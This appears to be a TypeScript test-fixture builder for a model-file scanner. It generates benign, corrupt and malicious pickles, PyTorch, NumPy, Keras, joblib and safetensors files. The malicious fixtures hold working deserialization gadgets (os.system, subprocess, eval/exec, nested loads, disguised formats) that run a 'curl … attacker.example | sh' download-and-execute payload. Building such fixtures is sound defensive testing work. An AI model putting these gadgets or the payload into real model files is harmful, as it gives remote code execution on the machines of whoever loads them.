// Builds model-file fixtures with Node only: hand-assembled pickles of every protocol (benign and
// malicious), PyTorch zip/legacy/tar checkpoints, NumPy arrays, Keras archives and HDF5 files,
// joblib dumps and safetensors files, written into a directory at test time.

import { promises as fsp } from 'node:fs';
import * as path from 'node:path';
import * as zlib from 'node:zlib';
import { zipSync, type Zippable } from 'fflate';
import { pickle, type PickleWriter } from './pickle-writer';

/** The command every malicious fixture would run. */
export const PAYLOAD = 'curl -s https://attacker.example/x | sh';

/** Protocol 0: `os.system(PAYLOAD)` through GLOBAL and REDUCE. */
export function osSystemP0(): Buffer {
  return pickle().global('os', 'system').mark().string0(PAYLOAD).tuple().reduce().stop().bytes();
}

/** Protocol 2: `posix.system` memoised with BINPUT and called through BINGET. */
export function posixSystemP2(): Buffer {
  return pickle().proto(2).global('posix', 'system').binput(0).pop().emptyList().binget(0).binUnicode(PAYLOAD).tuple1().reduce().append().stop().bytes();
}

/**
 * Protocol 4: `subprocess.check_output` imported with STACK_GLOBAL from strings memoised early
 * (inside an innocent-looking list of layer names) and fetched back with GET much later.
 */
export function subprocessStackGlobalMemoP4(): Buffer {
  const w = pickle().proto(4).emptyDict().memoize();
  w.str('layers').memoize().emptyList().memoize().mark().str('subprocess').memoize().str('check_output').memoize().str('dense_1').memoize().appends();
  w.setitem();
  w.str('head').binget(3).binget(4).stackGlobal().memoize().mark().str('sh').str('-c').str(PAYLOAD).list().tuple1().reduce().setitem();
  return w.stop().bytes();
}

/** Protocol 0: INST `builtins.eval` with a code string. */
export function builtinsEvalInstP0(): Buffer {
  return pickle().mark().unicode0("__import__('os').system('id')").inst('builtins', 'eval').stop().bytes();
}

/** Protocol 1: OBJ with `builtins.exec` as the class. */
export function builtinsExecObjP1(): Buffer {
  return pickle().mark().global('builtins', 'exec').binUnicode("import os; os.system('id')").obj().stop().bytes();
}

/** Protocol 2: a plausible state dict whose `config` value is `nt.system(...)`. */
export function ntSystemInDictP2(): Buffer {
  return pickle()
    .proto(2)
    .emptyDict()
    .binput(0)
    .mark()
    .binUnicode('weights')
    .emptyList()
    .mark()
    .binfloat(0.5)
    .binfloat(-1.25)
    .appends()
    .binUnicode('config')
    .global('nt', 'system')
    .binUnicode(PAYLOAD)
    .tuple1()
    .reduce()
    .setitems()
    .stop()
    .bytes();
}

/** Protocol 3: `pickle.loads(b'<protocol 0 os.system pickle>')`. */
export function nestedLoadsP3(): Buffer {
  return pickle().proto(3).global('pickle', 'loads').binBytes(osSystemP0()).tuple1().reduce().stop().bytes();
}

/** Protocol 3: a class of the model's own library given the bytes of a pickle it may never load. */
export function carriedPickleP3(): Buffer {
  return pickle().proto(3).global('mylib.state', 'Restorer').binBytes(osSystemP0()).tuple1().reduce().stop().bytes();
}

/** Protocol 2: `getattr(__import__('os'), 'system')(PAYLOAD)`, hiding os.system behind calls. */
export function getattrImportP2(): Buffer {
  return pickle()
    .proto(2)
    .global('builtins', 'getattr')
    .global('builtins', '__import__')
    .binUnicode('os')
    .tuple1()
    .reduce()
    .binUnicode('system')
    .tuple2()
    .reduce()
    .binUnicode(PAYLOAD)
    .tuple1()
    .reduce()
    .stop()
    .bytes();
}

/** Protocol 4: a dotted name that walks from torch to os.system. */
export function dottedAttributeP4(): Buffer {
  return pickle().proto(4).str('torch').str('serialization.os.system').stackGlobal().str(PAYLOAD).tuple1().reduce().stop().bytes();
}

/** Plain containers, protocol 0: dict of list, tuple, str, int, float, None, memo references. */
export function containersP0(): Buffer {
  return pickle()
    .mark()
    .dict()
    .put0(0)
    .string0('name')
    .unicode0('résumé \\ ☃')
    .setitem()
    .string0('sizes')
    .mark()
    .int0(1)
    .int0(2)
    .int0(300)
    .list()
    .put0(1)
    .setitem()
    .string0('again')
    .get0(1)
    .setitem()
    .string0('flag')
    .int0(1)
    .setitem()
    .string0('rate')
    .float0(0.01)
    .setitem()
    .string0('none')
    .none()
    .setitem()
    .string0('pair')
    .mark()
    .int0(1)
    .string0("it's")
    .tuple()
    .setitem()
    .stop()
    .bytes();
}

/** Plain containers, protocol 2. */
export function containersP2(): Buffer {
  return pickle()
    .proto(2)
    .emptyDict()
    .binput(0)
    .mark()
    .binUnicode('epochs')
    .int(10)
    .binUnicode('lr')
    .binfloat(0.001)
    .binUnicode('layers')
    .emptyList()
    .binput(1)
    .mark()
    .int(64)
    .int(1000)
    .int(-5)
    .appends()
    .binUnicode('shape')
    .int(3)
    .int(4)
    .tuple2()
    .binUnicode('tags')
    .binget(1)
    .binUnicode('big')
    .long1(12345678901234n)
    .binUnicode('ok')
    .newTrue()
    .setitems()
    .stop()
    .bytes();
}

/** Plain containers, protocol 4 with a frame, MEMOIZE, sets and bytes. */
export function containersP4(): Buffer {
  const body = pickle()
    .emptyDict()
    .memoize()
    .mark()
    .str('name')
    .memoize()
    .str('tiny')
    .str('ids')
    .emptySet()
    .mark()
    .int(1)
    .int(2)
    .additems()
    .str('frozen')
    .mark()
    .int(3)
    .frozenset()
    .str('blob')
    .binBytes(Buffer.from([0, 1, 2, 3]))
    .str('again')
    .binget(1)
    .str('long text')
    .binUnicode8('x'.repeat(300))
    .setitems()
    .stop()
    .bytes();
  return Buffer.concat([pickle().proto(4).frame(body.length).bytes(), body]);
}

/** Plain containers, protocol 5: bytearray8 and an out-of-band buffer marker. */
export function containersP5(): Buffer {
  return pickle().proto(5).emptyList().memoize().mark().byteArray8(Buffer.from('weights')).binBytes8(Buffer.alloc(70_000, 7)).str('end').appends().stop().bytes();
}

/** The pickle of a PyTorch state dict with one tensor: `OrderedDict(fc.weight=tensor)`. */
export function torchStateDictPickle(extra?: (w: PickleWriter) => void): Buffer {
  const w = pickle().proto(2).global('collections', 'OrderedDict').binput(0).emptyTuple().reduce().binput(1).mark();
  w.binUnicode('fc.weight').global('torch._utils', '_rebuild_tensor_v2').binput(2);
  w.mark().mark().binUnicode('storage').global('torch', 'FloatStorage').binput(3).binUnicode('0').binUnicode('cpu').int(4).tuple().binput(4).binpersid();
  w.int(0).int(2).int(2).tuple2().int(2).int(1).tuple2().newFalse().global('collections', 'OrderedDict').emptyTuple().reduce().tuple().reduce();
  if (extra) extra(w);
  return w.setitems().stop().bytes();
}

/** A malicious state dict: a second entry whose value runs `os.system`. */
export function torchMaliciousPickle(): Buffer {
  return torchStateDictPickle((w) => w.binUnicode('fc.bias').global('os', 'system').binUnicode(PAYLOAD).tuple1().reduce());
}

/** A PyTorch zip checkpoint (torch.save since 1.6) around a data.pkl. */
export function torchZip(dataPkl: Buffer, tensorBytes = 16): Buffer {
  const files: Zippable = {
    'archive/data.pkl': [dataPkl, { level: 0 }],
    'archive/byteorder': [Buffer.from('little'), { level: 0 }],
    'archive/data/0': [Buffer.alloc(tensorBytes, 0x3f), { level: 0 }],
    'archive/version': [Buffer.from('3\n'), { level: 0 }],
    'archive/.data/serialization_id': [Buffer.from('1234567890'), { level: 0 }],
  };
  return Buffer.from(zipSync(files));
}

/** A raw legacy PyTorch checkpoint: five consecutive pickles, then storage bytes. */
export function torchLegacyRaw(main: Buffer): Buffer {
  const magic = Buffer.from([0x80, 0x02, 0x8a, 0x0a, 0x6c, 0xfc, 0x9c, 0x46, 0xf9, 0x20, 0x6a, 0xa8, 0x50, 0x19, 0x2e]);
  const version = pickle().proto(2).int(1001).stop().bytes();
  const sysInfo = pickle().proto(2).emptyDict().mark().binUnicode('protocol_version').int(1001).binUnicode('little_endian').newTrue().setitems().stop().bytes();
  const keys = pickle().proto(2).emptyList().binUnicode('0').append().stop().bytes();
  const numel = Buffer.alloc(8);
  numel.writeBigInt64LE(4n);
  return Buffer.concat([magic, version, sysInfo, main, keys, numel, Buffer.alloc(16, 0x2e)]);
}

function tarEntry(name: string, data: Buffer): Buffer {
  const h = Buffer.alloc(512, 0);
  h.write(name, 0, 'latin1');
  h.write('0000644\0', 100, 'latin1');
  h.write('0000000\0', 108, 'latin1');
  h.write('0000000\0', 116, 'latin1');
  h.write(data.length.toString(8).padStart(11, '0') + '\0', 124, 'latin1');
  h.write('00000000000\0', 136, 'latin1');
  h.write('        ', 148, 'latin1');
  h.write('0', 156, 'latin1');
  h.write('ustar\u000000', 257, 'latin1');
  let sum = 0;
  for (const b of h) sum += b;
  h.write(sum.toString(8).padStart(6, '0') + '\0 ', 148, 'latin1');
  const pad = Buffer.alloc((512 - (data.length % 512)) % 512, 0);
  return Buffer.concat([h, data, pad]);
}

/** The oldest PyTorch format: a tar with sys_info, pickle, storages and tensors entries. */
export function torchLegacyTar(main: Buffer): Buffer {
  const sysInfo = pickle().proto(2).emptyDict().stop().bytes();
  const count = pickle().proto(2).int(1).stop().bytes();
  const header = pickle().proto(2).binUnicode('0').binUnicode('cpu').global('torch', 'FloatStorage').tuple3().stop().bytes();
  const numel = Buffer.alloc(8);
  numel.writeBigInt64LE(2n);
  const storages = Buffer.concat([count, header, numel, Buffer.from([0x2e, 0x63, 0x6f, 0x73, 0, 0, 0x80, 0x3f])]);
  const tensors = pickle().proto(2).int(0).stop().bytes();
  return Buffer.concat([tarEntry('sys_info', sysInfo), tarEntry('pickle', main), tarEntry('storages', storages), tarEntry('tensors', tensors), Buffer.alloc(1024, 0)]);
}

function npyHeader(descr: string, shape: string): Buffer {
  let text = `{'descr': ${descr}, 'fortran_order': False, 'shape': ${shape}, }`;
  const total = 10 + text.length + 1;
  text += ' '.repeat((64 - (total % 64)) % 64) + '\n';
  const len = Buffer.alloc(2);
  len.writeUInt16LE(text.length);
  return Buffer.concat([Buffer.from('\x93NUMPY\x01\x00', 'latin1'), len, Buffer.from(text, 'latin1')]);
}

/** The protocol 3 pickle numpy writes for an object array of `items`. */
function objectArrayPickle(items: (w: PickleWriter) => void, count: number): Buffer {
  const w = pickle().proto(3).global('numpy.core.multiarray', '_reconstruct').binput(0).global('numpy', 'ndarray').binput(1).int(0).tuple1().binBytes(Buffer.from('b')).tuple3().reduce().binput(2);
  w.mark().int(1).int(count).tuple1().global('numpy', 'dtype').binput(3).binUnicode('O8').newFalse().newTrue().tuple3().reduce().binput(4);
  w.mark().int(3).binUnicode('|').none().none().none().int(-1).int(-1).int(63).tuple().build();
  w.newFalse().emptyList().mark();
  items(w);
  return w.appends().tuple().build().stop().bytes();
}

/** An .npy object array whose second element is `os.system(PAYLOAD)`. */
export function maliciousObjectNpy(): Buffer {
  const body = objectArrayPickle((w) => w.int(1).global('os', 'system').binUnicode(PAYLOAD).tuple1().reduce(), 2);
  return Buffer.concat([npyHeader("'|O'", '(2,)'), body]);
}

/** An .npy object array of plain values. */
export function benignObjectNpy(): Buffer {
  return Buffer.concat([npyHeader("'|O'", '(2,)'), objectArrayPickle((w) => w.int(1).binUnicode('two'), 2)]);
}

/** A float32 .npy array (no pickle at all). */
export function numericNpy(): Buffer {
  const data = Buffer.alloc(16);
  for (let k = 0; k < 4; k++) data.writeFloatLE(k / 2, k * 4);
  return Buffer.concat([npyHeader("'<f4'", '(2, 2)'), data]);
}

/** An .npz (deflated zip of .npy files) holding the malicious object array. */
export function maliciousNpz(): Buffer {
  return Buffer.from(zipSync({ 'weights.npy': [numericNpy(), { level: 6 }], 'labels.npy': [maliciousObjectNpy(), { level: 6 }] }));
}

/** Marshalled bytecode stand-in: what a Lambda's `code` field decodes to. */
function lambdaCode(): string {
  return Buffer.concat([Buffer.from([0xe3, 0, 0, 0, 0]), Buffer.from('\xda\x02os\xda\x06system\xda\x04curl', 'latin1')]).toString('base64');
}

function kerasArchive(layers: unknown[]): Buffer {
  const config = {
    module: 'keras',
    class_name: 'Sequential',
    config: { name: 'sequential', trainable: true, layers },
    registered_name: null,
  };
  return Buffer.from(
    zipSync({
      'metadata.json': Buffer.from(JSON.stringify({ keras_version: '3.3.3', date_saved: '2024-05-01@10:00:00' })),
      'config.json': Buffer.from(JSON.stringify(config)),
      'model.weights.h5': Buffer.concat([Buffer.from('\x89HDF\r\n\x1a\n', 'latin1'), Buffer.alloc(64)]),
    }),
  );
}

const DENSE = { module: 'keras.layers', class_name: 'Dense', config: { name: 'dense', units: 4, activation: 'relu' }, registered_name: null };

/** A .keras archive with a Lambda layer carrying bytecode. */
export function lambdaKeras(): Buffer {
  return kerasArchive([
    DENSE,
    {
      module: 'keras.layers',
      class_name: 'Lambda',
      config: { name: 'exfiltrate', function: { class_name: '__lambda__', config: { code: lambdaCode(), defaults: null, closure: null } }, output_shape: null },
      registered_name: null,
    },
  ]);
}

/** A .keras archive whose activation is a function looked up in the `os` module. */
export function moduleReferenceKeras(): Buffer {
  return kerasArchive([{ ...DENSE, config: { ...DENSE.config, activation: { module: 'os', class_name: 'function', config: 'system', registered_name: 'system' } } }]);
}

/** A .keras archive with Dense layers only. */
export function denseKeras(): Buffer {
  return kerasArchive([DENSE]);
}

/** A legacy Keras .h5 file whose model_config attribute holds a Lambda with bytecode. */
export function lambdaH5(): Buffer {
  const config = {
    class_name: 'Sequential',
    config: { name: 'sequential', layers: [{ class_name: 'Lambda', config: { name: 'lambda', function: [lambdaCode(), null, null], function_type: 'lambda' } }] },
  };
  return Buffer.concat([
    Buffer.from('\x89HDF\r\n\x1a\n', 'latin1'),
    Buffer.alloc(200, 0xff),
    Buffer.from('model_config\0\0\0\0', 'latin1'),
    Buffer.from(JSON.stringify(config), 'utf8'),
    Buffer.alloc(300, 0x01),
  ]);
}

/** A legacy Keras .h5 file with a harmless configuration. */
export function denseH5(): Buffer {
  const config = { class_name: 'Sequential', config: { name: 'sequential', layers: [{ class_name: 'Dense', config: { name: 'dense', units: 4 } }] } };
  return Buffer.concat([Buffer.from('\x89HDF\r\n\x1a\n', 'latin1'), Buffer.alloc(100), Buffer.from(JSON.stringify(config)), Buffer.alloc(100)]);
}

/** A joblib dump of `[array, extra]`: raw array bytes follow the wrapper's BUILD. */
export function joblibDump(extra?: (w: PickleWriter) => void): Buffer {
  const w = pickle().proto(4).emptyList().memoize().mark();
  w.str('joblib.numpy_pickle').str('NumpyArrayWrapper').stackGlobal().memoize().emptyTuple().newobj().memoize();
  w.emptyDict().memoize().mark();
  w.str('subclass').str('numpy').str('ndarray').stackGlobal();
  w.str('shape').int(3).tuple1();
  w.str('order').str('C');
  w.str('dtype').str('numpy').str('dtype').stackGlobal().str('f8').newFalse().newTrue().tuple3().reduce().memoize().mark().int(3).str('<').none().none().none().int(-1).int(-1).int(0).tuple().build();
  w.str('allow_mmap').newFalse();
  w.str('numpy_array_alignment_bytes').int(16);
  w.setitems().build();
  const pos = w.length;
  const pad = 16 - ((pos + 1) % 16);
  // The array bytes start with '.', 'c' and newlines: a scanner that does not skip them stops early or misparses.
  const data = Buffer.from(".cos\nsystem\n(S'x'\ntR.\x00\x00\x00", 'latin1');
  w.data(Buffer.from([pad]))
    .data(Buffer.alloc(pad, 0xff))
    .data(data);
  if (extra) extra(w);
  return w.appends().stop().bytes();
}

/** A joblib dump whose second list element, after the array bytes, runs `subprocess.Popen`. */
export function joblibMalicious(): Buffer {
  return joblibDump((w) => w.global('subprocess', 'Popen').binUnicode(PAYLOAD).tuple1().reduce());
}

function safetensors(header: Record<string, unknown>, dataBytes: number): Buffer {
  let text = JSON.stringify(header);
  text += ' '.repeat((8 - (text.length % 8)) % 8);
  const len = Buffer.alloc(8);
  len.writeBigUInt64LE(BigInt(text.length));
  return Buffer.concat([len, Buffer.from(text), Buffer.alloc(dataBytes, 0x11)]);
}

export function validSafetensors(): Buffer {
  return safetensors({ __metadata__: { format: 'pt' }, weight: { dtype: 'F32', shape: [2, 2], data_offsets: [0, 16] }, bias: { dtype: 'F32', shape: [2], data_offsets: [16, 24] } }, 24);
}

export function overlapSafetensors(): Buffer {
  return safetensors({ weight: { dtype: 'F32', shape: [2, 2], data_offsets: [0, 16] }, bias: { dtype: 'F32', shape: [2], data_offsets: [8, 16] } }, 16);
}

export function outOfBoundsSafetensors(): Buffer {
  return safetensors({ weight: { dtype: 'F32', shape: [2, 2], data_offsets: [0, 16] }, bias: { dtype: 'F32', shape: [2], data_offsets: [16, 24] } }, 16);
}

/** Every fixture, by path relative to the fixture directory. */
export function modelFixtures(): Record<string, Buffer> {
  return {
    'malicious/os-system-p0.pkl': osSystemP0(),
    'malicious/posix-system-p2.pkl': posixSystemP2(),
    'malicious/subprocess-stack-global-memo-p4.pkl': subprocessStackGlobalMemoP4(),
    'malicious/builtins-eval-inst-p0.pkl': builtinsEvalInstP0(),
    'malicious/builtins-exec-obj-p1.pkl': builtinsExecObjP1(),
    'malicious/nt-system-in-dict-p2.pkl': ntSystemInDictP2(),
    'malicious/nested-loads-p3.pkl': nestedLoadsP3(),
    'malicious/getattr-import-p2.pkl': getattrImportP2(),
    'malicious/dotted-attribute-p4.pkl': dottedAttributeP4(),
    'malicious/checkpoint.pt': torchZip(torchMaliciousPickle()),
    'malicious/legacy-raw.pt': torchLegacyRaw(torchMaliciousPickle()),
    'malicious/legacy-tar.pth': torchLegacyTar(torchMaliciousPickle()),
    'malicious/object-array.npy': maliciousObjectNpy(),
    'malicious/arrays.npz': maliciousNpz(),
    'malicious/lambda.keras': lambdaKeras(),
    'malicious/module-reference.keras': moduleReferenceKeras(),
    'malicious/lambda.h5': lambdaH5(),
    'malicious/after-array.joblib': joblibMalicious(),
    'malicious/compressed.joblib': zlib.gzipSync(osSystemP0()),
    'malicious/disguised.safetensors': posixSystemP2(),
    'benign/containers-p0.pkl': containersP0(),
    'benign/containers-p2.pkl': containersP2(),
    'benign/containers-p4.pkl': containersP4(),
    'benign/containers-p5.pkl': containersP5(),
    'benign/state-dict.pt': torchZip(torchStateDictPickle()),
    'benign/legacy-raw.pt': torchLegacyRaw(torchStateDictPickle()),
    'benign/array.joblib': joblibDump(),
    'benign/numeric.npy': numericNpy(),
    'benign/object-array.npy': benignObjectNpy(),
    'benign/dense.keras': denseKeras(),
    'benign/dense.h5': denseH5(),
    'benign/model.safetensors': validSafetensors(),
    'corrupt/overlap.safetensors': overlapSafetensors(),
    'corrupt/out-of-bounds.safetensors': outOfBoundsSafetensors(),
    'corrupt/truncated.pkl': posixSystemP2().subarray(0, 20),
  };
}

/** Writes every fixture under `dir` and returns the paths written (relative, POSIX). */
export async function writeModelFixtures(dir: string): Promise<string[]> {
  const all = modelFixtures();
  for (const [rel, bytes] of Object.entries(all)) {
    const abs = path.join(dir, ...rel.split('/'));
    await fsp.mkdir(path.dirname(abs), { recursive: true });
    await fsp.writeFile(abs, bytes);
  }
  return Object.keys(all);
}

/** A `.zip` archive of the given entries (deflated, or stored at level 0), as a model hub upload or a plain bundle. */
export function zipOf(entries: Record<string, Buffer>, level: 0 | 6 = 6): Buffer {
  const files: Zippable = {};
  for (const [name, data] of Object.entries(entries)) files[name] = [data, { level }];
  return Buffer.from(zipSync(files));
}
